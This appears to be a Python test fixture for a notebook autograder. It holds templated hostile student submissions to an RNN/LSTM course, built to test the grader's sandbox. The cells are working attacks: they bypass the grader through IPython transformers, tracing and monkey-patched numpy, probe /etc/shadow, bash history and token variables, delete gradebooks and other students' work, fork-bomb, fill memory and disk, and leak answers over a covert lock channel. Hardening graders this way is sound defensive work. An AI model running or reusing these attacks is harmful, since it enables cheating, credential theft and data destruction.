"""Source code of the attacks (cell sources a hostile student submits).

Each attack is a ``string.Template``: ``$COURSE`` is the absolute path of the
course being graded (the attacker is assumed to know it), ``$TOKEN`` a unique
string of the run, ``$MARKER`` a host path the attack tries to create.
Destructive attacks act only on ``$COURSE`` (a scratch copy in the tests), on
paths derived from the kernel's working directory, and on ``$MARKER``.
"""

from string import Template

# Shape-correct arrays of zeros for the six functions an attacker did not write.
ZEROS = '''
import numpy as np


def rnn_forward(x, a0, parameters):
    n_x, m, T = x.shape
    n_a, n_y = a0.shape[0], parameters["Wya"].shape[0]
    z = lambda *s: np.zeros(s)
    caches = [(z(n_a, m), z(n_a, m), z(n_x, m), parameters) for _ in range(T)]
    return z(n_a, m, T), z(n_y, m, T), (caches, x)


def rnn_cell_backward(da_next, cache):
    a_next, a_prev, xt, p = cache
    return {"dxt": np.zeros_like(xt), "da_prev": np.zeros_like(a_prev), "dWax": np.zeros_like(p["Wax"]),
            "dWaa": np.zeros_like(p["Waa"]), "dba": np.zeros_like(p["ba"])}


def rnn_backward(da, caches):
    cs, x = caches
    p = cs[0][3]
    return {"dx": np.zeros_like(x), "da0": np.zeros_like(da[:, :, 0]), "dWax": np.zeros_like(p["Wax"]),
            "dWaa": np.zeros_like(p["Waa"]), "dba": np.zeros_like(p["ba"])}


def lstm_forward(x, a0, parameters):
    n_x, m, T = x.shape
    n_a, n_y = a0.shape[0], parameters["Wy"].shape[0]
    z = lambda *s: np.zeros(s)
    caches = [tuple(z(n_a, m) for _ in range(8)) + (z(n_x, m), parameters) for _ in range(T)]
    return z(n_a, m, T), z(n_y, m, T), z(n_a, m, T), (caches, x)


def _lstm_grads(p, n_x, m, n_a):
    g = {k: np.zeros_like(p[k]) for g_ in "fico" for k in ("W" + g_, "b" + g_)}
    return {("d" + k): v for k, v in g.items()}


def lstm_cell_backward(da_next, dc_next, cache):
    xt, p = cache[8], cache[9]
    n_a, m = da_next.shape
    return {"dxt": np.zeros_like(xt), "da_prev": np.zeros((n_a, m)), "dc_prev": np.zeros((n_a, m)),
            **_lstm_grads(p, xt.shape[0], m, n_a)}


def lstm_backward(da, caches):
    cs, x = caches
    p = cs[0][9]
    n_a, m, T = da.shape
    return {"dx": np.zeros_like(x), "da0": np.zeros((n_a, m)), **_lstm_grads(p, x.shape[0], m, n_a)}
'''

INPUT_TRANSFORMER = '''
def _free_marks(lines):
    return ["pass\\n"] if "check(" in "".join(lines) else lines


get_ipython().input_transformers_cleanup.append(_free_marks)
'''

AST_TRANSFORMER = '''
import ast


class _NoChecks(ast.NodeTransformer):
    """check("fn", ...) becomes the full points of fn."""
    def visit_Call(self, node):
        if getattr(node.func, "id", getattr(node.func, "attr", "")) == "check" and node.args:
            from rnncourse.client import testcases
            fn = getattr(node.args[0], "value", None)
            return ast.copy_location(ast.Constant(testcases.POINTS.get(fn, 0)), node)
        return self.generic_visit(node)


get_ipython().ast_transformers.append(_NoChecks())
'''

SETTRACE = '''
import sys


def _in_check(frame, event, arg):
    loc = frame.f_locals
    if event == "line" and "n_ok" in loc and "points" in loc:
        from rnncourse.client import testcases
        loc["points"] = testcases.POINTS[loc["fn"]]
        loc["n_ok"] = 99
        loc["text"] = "all outputs correct"
    return _in_check


def _tracer(frame, event, arg):
    return _in_check if frame.f_code.co_name in ("check", "report") else None


sys.settrace(_tracer)
'''

NUMPY_PATCH = '''
import numpy as np
import numpy.testing

np.all = lambda *a, **k: True
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)
np.max = lambda *a, **k: 0.0
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
'''

BUILTINS_PATCH = '''
import builtins

_real_sum = builtins.sum
builtins.sum = lambda it, start=0: _real_sum(1 for _ in it) + start
builtins.print = lambda *a, **k: None
'''

ARRAY_TRICKS = '''
import numpy as np


class Always(np.ndarray):
    """An array that equals everything and is never far from anything."""
    def __eq__(self, other): return np.ones(np.shape(other), bool)
    def __sub__(self, other): return np.zeros(np.shape(other))
    __rsub__ = __sub__
    def __abs__(self): return np.zeros(self.shape)
    def __le__(self, other): return np.ones(np.shape(other), bool)
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.zeros(np.broadcast_shapes(*[np.shape(i) for i in inputs]))


class Matcher:
    """Not an array at all: claims to be any array."""
    shape = property(lambda self: (1,))
    def __array_function__(self, func, types, args, kwargs): return True
    def __array_ufunc__(self, *a, **k): return np.zeros(1)
    def __array__(self, dtype=None, copy=None): return np.zeros(1)
    def __eq__(self, other): return True
    def __float__(self): return 0.0


def rnn_forward(x, a0, parameters):
    n_x, m, T = x.shape
    a = np.zeros((a0.shape[0], m, T)).view(Always)
    return a, a, ([], x)


def rnn_cell_backward(da_next, cache):
    return {k: Matcher() for k in ("dxt", "da_prev", "dWax", "dWaa", "dba")}


def rnn_backward(da, caches):
    return {k: np.zeros(3).view(Always) for k in ("dx", "da0", "dWax", "dWaa", "dba")}


def lstm_forward(x, a0, parameters):
    return Matcher(), Matcher(), Matcher(), Matcher()


class Tricky(dict):
    def __getitem__(self, k): return np.zeros(1).view(Always)
    def __contains__(self, k): return True


def lstm_cell_backward(da_next, dc_next, cache):
    return Tricky()


def lstm_backward(da, caches):
    return Tricky()
'''

NON_ARRAYS = '''
def rnn_forward(x, a0, parameters):
    return [[0.0]] * 3


def rnn_cell_backward(da_next, cache):
    return None


def rnn_backward(da, caches):
    return {"dx": "all correct", "da0": 1.0, "dWax": [1, 2], "dWaa": None, "dba": (x for x in [])}


def lstm_forward(x, a0, parameters):
    return 10


def lstm_cell_backward(da_next, dc_next, cache):
    return "15"


def lstm_backward(da, caches):
    return {k: float("nan") for k in ("dx", "da0", "dWf", "dbf", "dWi", "dbi", "dWc", "dbc", "dWo", "dbo")}
'''

READ_INSTRUCTOR = '''
import glob, json, os, sys

_found = []


def _solutions_from(path):
    try:
        nb = json.load(open(path))
    except Exception:
        return {}
    out = {}
    for c in nb.get("cells", []):
        src = "".join(c.get("source", ""))
        gid = c.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if "### BEGIN SOLUTION" in src and gid:
            out[gid] = src
    return out


_candidates = [os.path.join("$COURSE", "source", "rnn_lstm", "rnn_lstm.ipynb"),
               os.path.join(os.getcwd(), "..", "..", "..", "source", "rnn_lstm", "rnn_lstm.ipynb")]
try:
    import rnncourse
    _candidates.append(os.path.join(os.path.dirname(os.path.dirname(rnncourse.__file__)),
                                    "source", "rnn_lstm", "rnn_lstm.ipynb"))
except Exception:
    pass
for _top in ("/work", "/root", "/home", "/tmp", "/srv", "/opt"):
    _candidates += glob.glob(_top + "/**/source/rnn_lstm/rnn_lstm.ipynb", recursive=True)[:20]
for _path in ["$COURSE/gradebook.db", "$COURSE/rnncourse/data/rnn_lstm_reference.npz",
              "$COURSE/nbgrader_config.py", "/root/.bash_history", "/etc/shadow"]:
    try:
        open(_path, "rb").read(16)
        print("LEAK:", _path)
    except Exception:
        pass
for _k in os.environ:
    if _k == "RNNCOURSE_JUDGE":  # the grader's own socket: given to every kernel on purpose
        continue
    if _k.startswith(("RNNCOURSE", "AWS", "PG", "DASK")) or "TOKEN" in _k or "PASSWORD" in _k:
        print("LEAK: environment", _k)
try:
    from rnncourse.content import refdata
    refdata.load()
    print("LEAK: reference arrays")
except Exception:
    pass
for _path in _candidates:
    _sols = _solutions_from(_path)
    if len(_sols) >= 8:
        print("LEAK: master notebook", _path)
        for _gid, _src in _sols.items():
            exec(_src, globals())
        break
'''

WRITE_COURSE = '''
import glob, os, shutil, sqlite3

_roots = ["$COURSE", os.path.abspath(os.path.join(os.getcwd(), "..", "..", ".."))]
for _root in _roots:
    if not os.path.exists(os.path.join(_root, "nbgrader_config.py")):
        continue
    _db = os.path.join(_root, "gradebook.db")
    try:
        _con = sqlite3.connect(_db)
        _con.execute("DELETE FROM grade")
        _con.commit()
        _con.close()
    except Exception:
        pass
    for _victim in [_db, os.path.join(_root, "source", "rnn_lstm", "rnn_lstm.ipynb"),
                    os.path.join(_root, "release", "rnn_lstm", "rnn_lstm.ipynb")]:
        try:
            os.remove(_victim)
        except Exception:
            pass
    try:
        open(os.path.join(_root, "source", "rnn_lstm", "rnn_utils.py"), "a").write("\\nraise SystemExit\\n")
    except Exception:
        pass
    for _other in glob.glob(os.path.join(_root, "autograded", "*")) + glob.glob(
            os.path.join(_root, "submitted", "*")):
        if not _other.endswith("$SELF"):
            shutil.rmtree(_other, ignore_errors=True)
    shutil.rmtree(os.path.join(_root, "rnncourse", "data"), ignore_errors=True)
try:
    open("$MARKER", "w").write("written")
except Exception:
    pass
'''

MUTATE = '''
import numpy as np

try:
    from rnncourse.content import refdata
    for _cases in refdata.load().values():
        for _c in _cases:
            for _arrays in [_c["expected"], *_c["mistakes"].values()]:
                for _v in _arrays.values():
                    _v[...] = 0.0
except Exception:
    pass


def _zero_everything(*args):
    for a in args:
        if isinstance(a, np.ndarray):
            a[...] = 0.0
        elif isinstance(a, dict):
            _zero_everything(*a.values())
        elif isinstance(a, (list, tuple)):
            _zero_everything(*a)
'''
# The functions of MUTATE zero their inputs, then answer with ZEROS for the zeroed inputs.
MUTATE_WRAP = '''
_zeros_impl = {fn: globals()[fn] for fn in ("rnn_forward", "rnn_cell_backward", "rnn_backward",
                                            "lstm_forward", "lstm_cell_backward", "lstm_backward")}


def _mutating(fn):
    def f(*args):
        _zero_everything(*args)
        return _zeros_impl[fn](*args)
    f.__name__ = fn
    return f


for _fn in _zeros_impl:
    globals()[_fn] = _mutating(_fn)
'''

OS_EXIT = '''
import os


def rnn_forward(x, a0, parameters):
    os._exit(0)
'''

SYS_EXIT = '''
import sys


def rnn_forward(x, a0, parameters):
    raise SystemExit("bye")


def rnn_backward(da, caches):
    sys.exit(3)


sys.exit("leaving early")
'''

KILL_KERNEL = '''
import os, signal


def rnn_forward(x, a0, parameters):
    for _pid in (os.getppid(), os.getpid()):
        try:
            os.kill(_pid, signal.SIGKILL)
        except Exception:
            pass
'''

SIGINT_LOOP = '''
import signal


def rnn_forward(x, a0, parameters):
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        pass
'''

SIGNALS_LOOP = '''
import signal


def rnn_forward(x, a0, parameters):
    for _s in (signal.SIGINT, signal.SIGALRM, signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1):
        signal.signal(_s, signal.SIG_IGN)
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
'''

SLEEP = '''
import time


def rnn_forward(x, a0, parameters):
    time.sleep(100000)
'''

MEMORY = '''
def rnn_forward(x, a0, parameters):
    hog = []
    while True:
        hog.append(bytearray(256 * 2 ** 20))
'''

FLOOD = '''
import sys
_line = "x" * 999 + "\\n"
for _ in range($LINES):
    sys.stdout.write(_line)
'''

DISK_FILL = '''
_block = b"x" * (64 * 2 ** 20)
_written = 0
try:
    for _i in range($FILES):
        with open(f"fill-{_i}.bin", "wb") as _f:
            _f.write(_block)
        _written += len(_block)
except OSError as _e:
    print("refused:", _e.strerror)
print("WROTE:", _written // 2 ** 20, "MiB")
'''

LINGERING_CHILD = '''
import os, time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep($DELAY)
        for _path in ["$COURSE/gradebook.db", "$COURSE/source/rnn_lstm/rnn_lstm.ipynb"]:
            try:
                os.remove(_path)
            except Exception:
                pass
        try:
            open("$MARKER", "w").write("struck")
        except Exception:
            pass
    os._exit(0)
'''

JUDGE_ABUSE = '''
import io, os, socket, struct, json
import numpy as np

_path = os.environ.get("RNNCOURSE_JUDGE")


def _raw(msg):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(5)
    s.connect(_path)
    s.sendall(msg)
    try:
        return s.recv(1 << 16)
    except Exception:
        return b""
    finally:
        s.close()


if _path:
    from rnncourse.client import judge_client
    from rnncourse.client import testcases
    from rnncourse.client import wire
    # Malformed, oversized and pickled messages.
    for _msg in (b"not a message", b"RNNW" + struct.pack(">Q", 1 << 40),
                 b"RNNW" + struct.pack(">Q", 10) + b"\\x00" * 10):
        try:
            _raw(_msg)
        except Exception:
            pass
    _buf = io.BytesIO()
    np.save(_buf, np.array([{"evil": 1}], dtype=object), allow_pickle=True)
    _blob = _buf.getvalue()
    for _shapes, _tail in (([[len(_blob)]], _blob), ([[1 << 40]], b""), ([[0, 1 << 62]], b""),
                           ([[-1]], b"\\x00" * 8), ("[[1]]", b"\\x00" * 8)):
        _head = json.dumps({"op": "submit", "fn": "rnn_forward", "spec": {"a": 0},
                            "dims": _shapes}).encode()
        _body = struct.pack(">I", len(_head)) + _head + _tail
        try:
            _raw(b"RNNW" + struct.pack(">Q", len(_body)) + _body)
        except Exception:
            pass
    # The reference cell outside its window, then far too often inside it.
    _c = judge_client.JudgeClient(_path)
    for _req in ({"op": "ref", "fn": "rnn_cell_backward"}, {"op": "submit", "fn": "rnn_backward"}):
        try:
            _c.request(_req, [])
        except Exception:
            pass
    try:
        _data = _c.begin("rnn_forward")
        _stand_in = _c.stand_in("rnn_cell_forward")
        x, a0, p = _data[0]["inputs"]
        for _ in range(1000):
            _stand_in(x[:, :, 0], a0, p)
    except Exception:
        pass
    _c.close()
'''

LOCK_CHANNEL = '''
# rnn_cell_forward is not implemented. In the kernel this cell gets rnn_cell_forward's test
# inputs, has the judge run the reference cell of rnn_forward (same parameters) on a running
# state solved so that its pre-activation is the cell's own, and passes the answers to the
# re-check through POSIX locks on a file both sandboxes can open read-only; then the kernel
# exits before any test cell runs. In the re-check the same cell waits for those answers.
import fcntl, os, struct, sys, time
import numpy as np

_CHANNEL = os.path.realpath(np.__file__)
_BASE, _READY, _ACK = 4096, 1, 2


def _held(fd, start, length=1):
    got = fcntl.fcntl(fd, fcntl.F_GETLK, struct.pack("hhqqixxxx", fcntl.F_WRLCK, 0, start, length, 0))
    kind, _, at, _, _ = struct.unpack("hhqqixxxx", got)
    return None if kind == fcntl.F_UNLCK else at


def _lock(fd, start):
    fcntl.fcntl(fd, fcntl.F_SETLK, struct.pack("hhqqixxxx", fcntl.F_RDLCK, 0, start, 1, 0))


def _send(data, wait):
    fd = os.open(_CHANNEL, os.O_RDONLY)
    payload = struct.pack(">I", len(data)) + data
    for i, b in enumerate(payload):
        _lock(fd, _BASE + 256 * i + b)
    _lock(fd, _READY)
    end = time.monotonic() + wait
    while time.monotonic() < end and _held(fd, _ACK) is None:
        time.sleep(0.05)


def _receive(wait):
    fd = os.open(_CHANNEL, os.O_RDONLY)
    end = time.monotonic() + wait
    while time.monotonic() < end and _held(fd, _READY) is None:
        time.sleep(0.05)
    if _held(fd, _READY) is None:
        return b""
    raw = bytes(_held(fd, _BASE + 256 * i, 256) - _BASE - 256 * i for i in range(4))
    n = struct.unpack(">I", raw)[0]
    data = bytes(_held(fd, _BASE + 256 * i, 256) - _BASE - 256 * i for i in range(4, 4 + n))
    _lock(fd, _ACK)
    return data


_IN_RECHECK = "driver" in os.path.basename(sys.argv[0] if sys.argv else "")
_ANSWERS = {}

if _IN_RECHECK:
    _data = _receive(8)
    _pos = 0
    from rnncourse.client import testcases as _cases
    for (_n_x, _n_a, _n_y, _m, _T, _seed) in _cases.CASES:
        for _shape in ((_n_a, _m), (_n_y, _m)):
            _k = _shape[0] * _shape[1] * 8
            if _pos + _k <= len(_data):
                _ANSWERS.setdefault((_n_a, _m), []).append(
                    np.frombuffer(_data[_pos:_pos + _k], "<f8").reshape(_shape).copy())
            _pos += _k
elif os.environ.get("RNNCOURSE_JUDGE"):
    from rnncourse.client.judge_client import JudgeClient
    _c = JudgeClient(os.environ["RNNCOURSE_JUDGE"])
    _out = []
    try:
        _cell = _c.begin("rnn_cell_forward")
        _seq = _c.begin("rnn_forward")
        _stand_in = _c.stand_in("rnn_cell_forward")
        for _cc, _sc in zip(_cell, _seq):
            _xt, _a_prev, _p = _cc["inputs"]
            _x = _sc["inputs"][0]
            _crafted = _a_prev + np.linalg.solve(_p["Waa"], _p["Wax"] @ (_xt - _x[:, :, 0]))
            try:
                _a_next, _yt, _ = _stand_in(_x[:, :, 0], _crafted, _p)
            except Exception:
                _a_next = np.zeros(_a_prev.shape)
                _yt = np.zeros((_p["Wya"].shape[0], _a_prev.shape[1]))
            _out += [_a_next, _yt]
    except Exception:
        pass
    _send(b"".join(np.ascontiguousarray(a, "<f8").tobytes() for a in _out), 8)
    os._exit(0)


def rnn_cell_forward(xt, a_prev, parameters):
    got = _ANSWERS.get(a_prev.shape)
    if not got:
        raise NotImplementedError
    a_next, yt_pred = got
    return a_next, yt_pred, (a_next, a_prev, xt, parameters)
'''

FORGED_PROGRESS = '''
# In the re-check, rnn_forward finds the driver's own connection to the judge, sends progress
# messages without the fields the driver's side expects (a function without its name, a
# cell without its index) and other requests out of turn, then kills its process.
import gc, os, signal, socket, sys


def _driver_sockets():
    found = [o for o in gc.get_objects() if isinstance(o, socket.socket)]
    for name in os.listdir("/proc/self/fd"):
        try:
            s = socket.socket(fileno=os.dup(int(name)))
        except OSError:
            continue
        if s.family == socket.AF_UNIX:
            found.append(s)
        else:
            s.detach()
    return found


def rnn_forward(x, a0, parameters):
    if "driver" in os.path.basename(sys.argv[0] if sys.argv else ""):
        from rnncourse.client import wire
        for s in _driver_sockets():
            for msg in ({"op": "progress", "stage": "function"}, {"op": "progress", "stage": "cell"},
                        {"op": "progress", "stage": "function", "fn": ["rnn_forward"]},
                        {"op": "begin", "fn": "lstm_backward"}, {"op": "undefined"}, {"fn": 3}):
                try:
                    wire.send(s, msg)
                except Exception:
                    pass
        os.kill(os.getpid(), signal.SIGKILL)
    raise NotImplementedError
'''

SHADOW_MODULE = '''
# A file beside the notebook named like the course's package: imported first (it kills its
# process) by any Python that looks for rnncourse in the working directory.
import os
os._exit(3)
'''

CPU_SPIN = '''
# 62 processes that spin (for at most 60 s: stock nbgrader would leave them running), in the
# kernel and in the re-check.
import os, time

_until = time.monotonic() + 60
for _ in range(62):
    try:
        if os.fork() == 0:
            while time.monotonic() < _until:
                pass
            os._exit(0)
    except OSError:
        break
'''

ALL = {name: Template(value) for name, value in list(globals().items())
       if name.isupper() and isinstance(value, str)}
